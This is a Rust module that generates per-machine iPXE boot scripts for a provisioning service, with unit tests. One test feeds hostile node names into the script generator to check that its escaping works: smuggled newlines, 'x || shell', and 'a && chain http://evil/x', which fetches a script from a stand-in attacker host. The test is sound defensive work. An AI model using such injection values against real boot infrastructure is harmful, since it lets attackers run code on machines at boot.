//! The per-machine iPXE script: what a machine boots is decided from its state each time it
//! asks, so there is nothing to regenerate when state changes.
//!
//! | the machine | boots |
//! |---|---|
//! | unknown (no node has its MAC), or under introspection | the discovery ramdisk |
//! | provisioning `birth`, `rebirth`, `clean` ([`Serve::ramdisk_mode`]) | the same ramdisk with `paddock.mode=<mode>` |
//! | provisioning `unknown` or `error` | the discovery ramdisk (it waits there, never writing a disk) |
//! | provisioning `healthy`, or a node never provisioned by Paddock | the local disk |
//!
//! The local disk: under BIOS `sanboot --no-describe --drive 0x80` (iPXE asks the BIOS,
//! INT 13h, to boot the first hard disk); under UEFI (`${platform}` is `efi`) there is no
//! BIOS drive to name, so iPXE chains the boot loader the birther installed on the EFI
//! system partition, found by its label (`file://PADDOCK-ESP/EFI/BOOT/BOOTX64.EFI`, iPXE's
//! EFI local file access): the firmware's own boot options may not name the disk at all
//! (OVMF kept only the network). If that fails the script `exit`s to the firmware's boot
//! manager. A BIOS `sanboot` that fails also exits, handing the choice back to the BIOS.

use std::net::SocketAddr;

use paddock_birther::Serve;
use paddock_inventory::MacAddr;

use paddock_inspector::node::Node;

/// What a machine boots (pure: from its node and its provisioning record's [`Serve`]).
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Boot {
    /// The discovery ramdisk; `mode`: the provisioning mode on its command line.
    Ramdisk {
        why: &'static str,
        mode: Option<&'static str>,
    },
    LocalDisk {
        why: &'static str,
    },
}

impl Boot {
    /// For the timeline and the log.
    pub fn what(&self) -> String {
        match self {
            Boot::Ramdisk { mode: None, .. } => "discovery ramdisk".into(),
            Boot::Ramdisk { mode: Some(m), .. } => format!("ramdisk in {m} mode"),
            Boot::LocalDisk { .. } => "local disk".into(),
        }
    }
}

/// Decides what to boot. `serve`: the node's provisioning record's [`Serve`] (`None`: no
/// record, a node Paddock never provisioned, which boots as it always did). An
/// introspection under way comes first: the agent inspects, then asks what next
/// (`/api/v1/provision/next`) and goes on in the same boot.
pub fn decide(node: Option<&Node>, serve: Option<&Serve>) -> Boot {
    let Some(n) = node else {
        return Boot::Ramdisk {
            why: "unknown",
            mode: None,
        };
    };
    if n.inspecting() {
        return Boot::Ramdisk {
            why: "under introspection",
            mode: None,
        };
    }
    match serve {
        None => Boot::LocalDisk { why: "idle" },
        Some(Serve::LocalDisk) => Boot::LocalDisk { why: "provisioned" },
        Some(Serve::InspectionRamdisk) => Boot::Ramdisk {
            why: "waiting for provisioning",
            mode: None,
        },
        Some(s) => Boot::Ramdisk {
            why: "being provisioned",
            mode: s.ramdisk_mode(),
        },
    }
}

/// Renders `/boot/{mac}.ipxe` for a machine.
pub fn script(
    mac: MacAddr,
    node: Option<&Node>,
    serve: Option<&Serve>,
    discovery: &Discovery,
    public_url: &str,
) -> String {
    let self_url = format!("{public_url}/boot/{mac}.ipxe");
    match decide(node, serve) {
        Boot::LocalDisk { why } => format!(
            "#!ipxe\n\
             echo Paddock: {who} ({mac}) is {why}: booting from the local disk\n\
             iseq ${{platform}} efi || goto bios\n\
             chain file://{esp}/EFI/BOOT/BOOTX64.EFI || exit\n\
             :bios\n\
             sanboot --no-describe --drive 0x80 || exit\n",
            who = node
                .and_then(|n| n.name.as_deref())
                .map_or("node".into(), ipxe_text),
            esp = paddock_birther::layout::ESP_LABEL,
        ),
        Boot::Ramdisk { why, mode } => {
            match (&discovery.kernel, &discovery.initrd) {
                (Some(kernel), Some(initrd)) => {
                    // BOOTIF names the NIC we booted from (pxelinux syntax: 01-<mac with dashes>);
                    // initrd=<name> is needed by EFI iPXE builds to hand the initrd over. The
                    // IPA callback argument lets an unmodified Ironic Python Agent ramdisk
                    // report to us too.
                    let bootif = format!("01-{}", mac.to_string().replace(':', "-"));
                    let agent_url = if discovery.agent_urls.is_empty() {
                        public_url.to_string()
                    } else {
                        discovery.agent_urls.join(",")
                    };
                    // IPA posts to one URL: this host's agent URL (HTTPS when TLS is on,
                    // where /v1/continue is served).
                    let callback = discovery
                        .agent_urls
                        .first()
                        .map_or(public_url, String::as_str);
                    let extra = if discovery.cmdline.is_empty() {
                        String::new()
                    } else {
                        format!(" {}", discovery.cmdline)
                    };
                    let mode_arg = mode
                        .map(|m| format!(" paddock.mode={m}"))
                        .unwrap_or_default();
                    let what = match mode {
                        Some(m) => format!("the ramdisk in {m} mode"),
                        None => "the discovery ramdisk".into(),
                    };
                    format!(
                        "#!ipxe\n\
                         echo Paddock: {mac} is {why}: booting {what}\n\
                         kernel {kernel} initrd=initrd BOOTIF={bootif} paddock.url={agent_url} paddock.log=info{mode_arg} ipa-inspection-callback-url={callback}/v1/continue{extra} || goto retry\n\
                         initrd --name initrd {initrd} || goto retry\n\
                         boot || goto retry\n\
                         :retry\n\
                         echo Paddock: boot failed, retrying in 10 seconds\n\
                         sleep 10\n\
                         chain --replace {self_url}\n"
                    )
                }
                _ => format!(
                    "#!ipxe\n\
                     echo Paddock: {mac} is {why}, but no discovery ramdisk is configured\n\
                     echo Paddock: set [boot.discovery] kernel and initrd; retrying in 30 seconds\n\
                     sleep 30\n\
                     chain --replace {self_url}\n"
                ),
            }
        }
    }
}

/// Text that is safe anywhere in an iPXE script line: RFC 3986 unreserved characters pass,
/// every other byte is percent-encoded, so a newline, `${…}` (setting expansion), `#`, `||`,
/// `&&`, `:` or a space can never become script syntax. Names are validated on the way in;
/// this keeps a script safe even for text that was stored before that.
pub fn ipxe_text(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(char::from(b));
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// The script served to an iPXE that asks for `autoexec.ipxe` or a generic script.
pub fn chain_script(public_url: &str) -> String {
    format!("#!ipxe\nchain {public_url}/boot/${{net0/mac}}.ipxe\n")
}

#[derive(Clone, Debug)]
pub struct TftpConfig {
    pub listen: Vec<SocketAddr>,
    pub server: paddock_tftp::TftpConfig,
}

/// The discovery ramdisk entry of the boot script.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Discovery {
    pub kernel: Option<String>,
    pub initrd: Option<String>,
    pub cmdline: String,
    /// `paddock.url` for the agent when there are several hosts (this one first); empty:
    /// the public URL alone.
    pub agent_urls: Vec<String>,
}

/// Serves the boot loaders over TFTP on each configured address, with `autoexec.ipxe`
/// chaining to the HTTP boot script.
pub fn start_tftp(tftp: Option<&TftpConfig>, public_url: &str) -> anyhow::Result<()> {
    let Some(t) = tftp else {
        return Ok(());
    };
    let mem = paddock_tftp::MemFiles::default();
    mem.insert("autoexec.ipxe", chain_script(public_url).into_bytes());
    for addr in &t.listen {
        paddock_tftp::spawn(*addr, t.server.clone(), mem.clone())?;
        tracing::info!(%addr, "tftp: listening");
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    const MAC: MacAddr = MacAddr([0x52, 0x54, 0, 0xab, 0, 1]);

    fn discovery() -> Discovery {
        Discovery {
            kernel: Some("http://p/k".into()),
            initrd: Some("http://p/i".into()),
            cmdline: "console=ttyS0".into(),
            agent_urls: Vec::new(),
        }
    }

    #[test]
    fn several_hosts_are_all_given_to_the_agent() {
        let d = Discovery {
            agent_urls: vec!["http://a".into(), "http://b".into()],
            ..discovery()
        };
        let s = script(MAC, None, None, &d, "http://a");
        assert!(s.contains(" paddock.url=http://a,http://b "), "{s}");
        assert!(
            s.contains("ipa-inspection-callback-url=http://a/v1/continue"),
            "{s}"
        );
        // With TLS the agent's URLs are the HTTPS ones, and so is IPA's callback.
        let tls = Discovery {
            agent_urls: vec!["https://a:8443".into()],
            ..discovery()
        };
        let s = script(MAC, None, None, &tls, "http://a");
        assert!(
            s.contains("ipa-inspection-callback-url=https://a:8443/v1/continue"),
            "{s}"
        );
    }

    #[test]
    fn unknown_machines_boot_the_discovery_ramdisk() {
        let s = script(MAC, None, None, &discovery(), "http://p");
        assert!(s.starts_with("#!ipxe\n"));
        assert!(s.contains("kernel http://p/k initrd=initrd BOOTIF=01-52-54-00-ab-00-01 paddock.url=http://p paddock.log=info ipa-inspection-callback-url=http://p/v1/continue console=ttyS0"), "{s}");
        assert!(s.contains("initrd --name initrd http://p/i"));
        assert!(s.contains("is unknown"));
    }

    #[test]
    fn untrusted_text_never_becomes_script_syntax() {
        let mut node = Node::new(uuid::Uuid::nil(), 0);
        for evil in [
            "r1\nshell\n#",
            "r1${net0/mac}",
            "x || shell",
            "a && chain http://evil/x",
            ":retry",
            "#!ipxe",
        ] {
            node.name = Some(evil.into());
            let s = script(MAC, Some(&node), None, &discovery(), "http://p");
            let lines: Vec<&str> = s.lines().collect();
            assert_eq!(lines.len(), 6, "{evil:?} added lines: {s}");
            assert!(!lines[1].contains("${") && !lines[1].contains("||"), "{s}");
            assert!(!lines[1].contains(" && ") && !lines[1].contains('#'), "{s}");
            assert!(lines[1].starts_with("echo Paddock: "), "{s}");
        }
        assert_eq!(ipxe_text("r1\n${x} #|"), "r1%0A%24%7Bx%7D%20%23%7C");
    }

    #[test]
    fn idle_machines_boot_locally() {
        use paddock_inspector::node::Introspection;
        use paddock_inspector::state::State;
        let mut node = Node::new(uuid::Uuid::nil(), 0);
        node.name = Some("rack1-u7".into());
        node.macs = vec![MAC];
        let s = script(MAC, Some(&node), None, &discovery(), "http://p");
        assert!(
            s.contains("sanboot --no-describe --drive 0x80 || exit"),
            "{s}"
        );
        assert!(!s.contains("kernel"));
        for (state, ramdisk) in [
            (State::Waiting, true),
            (State::Enrolling, true),
            (State::Finished, false),
            (State::Error, false),
        ] {
            node.introspection = Some(Introspection {
                state,
                started_at: Some(0),
                finished_at: None,
                error: None,
                manage_boot: true,
                set_image: None,
            });
            let s = script(MAC, Some(&node), None, &discovery(), "http://p");
            assert_eq!(s.contains("kernel http://p/k"), ramdisk, "{state:?}: {s}");
        }
    }

    /// The provisioning states: the ramdisk in their mode, the local disk, or waiting in the
    /// discovery ramdisk; an introspection under way comes first.
    #[test]
    fn provisioning_states_choose_the_boot() {
        use paddock_inspector::node::Introspection;
        use paddock_inspector::state::State;
        let mut node = Node::new(uuid::Uuid::nil(), 0);
        node.name = Some("r1".into());
        let image = || "debian/a".to_string();
        let rows = [
            (Some(Serve::BirthRamdisk { image: image() }), Some("birth")),
            (
                Some(Serve::RebirthRamdisk { image: image() }),
                Some("rebirth"),
            ),
            (Some(Serve::CleanRamdisk), Some("clean")),
            (Some(Serve::InspectionRamdisk), None),
        ];
        for (serve, mode) in &rows {
            let s = script(MAC, Some(&node), serve.as_ref(), &discovery(), "http://p");
            assert!(s.contains("kernel http://p/k "), "{serve:?}: {s}");
            let arg = mode.map(|m| format!(" paddock.mode={m} "));
            assert_eq!(
                arg.as_ref().is_some_and(|a| s.contains(a.as_str())),
                mode.is_some(),
                "{serve:?}: {s}"
            );
            assert_eq!(s.contains("paddock.mode="), mode.is_some(), "{s}");
        }
        let local = script(
            MAC,
            Some(&node),
            Some(&Serve::LocalDisk),
            &discovery(),
            "http://p",
        );
        assert_eq!(
            local,
            "#!ipxe\n\
             echo Paddock: r1 (52:54:00:ab:00:01) is provisioned: booting from the local disk\n\
             iseq ${platform} efi || goto bios\n\
             chain file://PADDOCK-ESP/EFI/BOOT/BOOTX64.EFI || exit\n\
             :bios\n\
             sanboot --no-describe --drive 0x80 || exit\n"
        );
        // Under introspection: the plain discovery ramdisk whatever the record says.
        node.introspection = Some(Introspection {
            state: State::Waiting,
            started_at: Some(0),
            finished_at: None,
            error: None,
            manage_boot: true,
            set_image: None,
        });
        for serve in [Some(Serve::LocalDisk), Some(Serve::CleanRamdisk), None] {
            let b = decide(Some(&node), serve.as_ref());
            assert_eq!(
                b,
                Boot::Ramdisk {
                    why: "under introspection",
                    mode: None
                }
            );
        }
        // An unknown machine: the discovery ramdisk.
        assert_eq!(decide(None, None).what(), "discovery ramdisk");
        assert_eq!(
            decide(
                Some(&Node::new(uuid::Uuid::nil(), 0)),
                Some(&Serve::CleanRamdisk)
            )
            .what(),
            "ramdisk in clean mode"
        );
    }

    #[test]
    fn missing_ramdisk_is_explained_and_retried() {
        let s = script(MAC, None, None, &Discovery::default(), "http://p");
        assert!(s.contains("no discovery ramdisk is configured"));
        assert!(s.contains("chain --replace http://p/boot/52:54:00:ab:00:01.ipxe"));
    }
}
